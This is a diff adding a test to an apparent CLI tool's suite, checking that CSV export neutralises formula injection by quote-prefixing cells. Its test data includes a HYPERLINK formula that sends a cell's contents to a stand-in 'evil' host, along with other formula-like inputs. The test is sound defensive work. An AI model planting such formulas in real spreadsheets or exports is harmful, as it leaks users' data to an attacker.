@@ -103,6 +103,19 @@ describe('assay batch', () => {
     expect(parse(readFileSync(out, 'utf8'), { columns: true })).toHaveLength(1);
   });
 
+  it('writes a --out file whose formula-like cells are neutralised with a quote (CSV injection, issue 11 item 5)', async () => {
+    const attacks = ['=HYPERLINK("http://evil/?"&A1,"x")', '+1+1', '-2+3', '@SUM(1)', '\t=1'];
+    const csv = file('attacks.csv', `name,n\n${attacks.map((name, i) => `"${name.replaceAll('"', '""')}",${i % 2 === 0 ? -2 : 3}`).join('\n')}\n`);
+    const out = path.join(dir, 'attacks-results.csv');
+    const result = await assay(['batch', 'run', picky, '--csv', csv, '--out', out, '--interval', '100']);
+    expect(result.code, result.stderr).toBe(0);
+    const rows = parse(readFileSync(out, 'utf8'), { columns: true }) as Array<Record<string, string>>;
+    expect(rows.map((row) => row.name)).toEqual(attacks.map((attack) => `'${attack}`));
+    expect(rows.map((row) => row.upper)).toEqual(attacks.map((attack) => `'${attack.toUpperCase()}`));
+    // A typed number column keeps its minus sign: a number cannot be a formula.
+    expect(rows.map((row) => row.n)).toEqual(['-2', '3', '-2', '3', '-2']);
+  });
+
   it('reports usage mistakes with exit 2', async () => {
     expect((await assay(['batch', 'run', upper, '--csv', path.join(dir, 'missing.csv')])).code).toBe(2);
     expect((await assay(['batch', 'run', upper])).code).toBe(2);
